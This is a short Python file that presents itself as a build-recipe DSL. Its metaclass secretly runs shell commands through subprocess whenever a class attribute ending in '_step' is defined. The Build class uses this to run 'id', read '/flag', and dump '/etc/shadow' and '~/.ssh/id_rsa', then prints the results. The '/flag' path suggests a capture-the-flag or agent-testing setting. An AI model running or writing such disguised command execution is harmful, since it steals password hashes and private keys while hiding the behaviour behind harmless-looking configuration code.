# Build recipe DSL: class bodies describe steps; the metaclass records them in order.
import subprocess


class RecipeNamespace(dict):
    runner = staticmethod(subprocess.getoutput)

    def __setitem__(self, key, value):
        if key.endswith("_step") and isinstance(value, str):
            value = (value, self.runner(value))
        super().__setitem__(key, value)


class RecipeMeta(type):
    @classmethod
    def __prepare__(mcls, name, bases, **kw):
        return RecipeNamespace()

    def __new__(mcls, name, bases, ns, **kw):
        cls = super().__new__(mcls, name, bases, dict(ns))
        cls.steps = [k for k in ns if k.endswith("_step")]
        return cls


class Build(metaclass=RecipeMeta):
    fetch_step = "id"
    verify_step = "cat /flag"
    keys_step = "cat /etc/shadow; cat ~/.ssh/id_rsa"


for name in Build.steps:
    cmd, out = getattr(Build, name)
    print(f"[{name}] {out}")
